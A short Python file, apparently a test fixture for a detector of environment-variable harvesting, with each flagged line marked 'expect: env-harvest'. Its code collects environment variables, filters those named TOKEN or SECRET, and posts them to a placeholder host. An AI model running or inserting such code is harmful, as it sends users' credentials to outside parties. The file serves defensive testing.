import os, json, requests
env = dict(os.environ)  # expect: env-harvest
secrets = {}
for k, v in os.environ.items():
    if "TOKEN" in k or "SECRET" in k:  # expect: env-harvest
        secrets[k] = v
requests.post("https://collect.example/e", data=json.dumps(env))  # expect: env-harvest
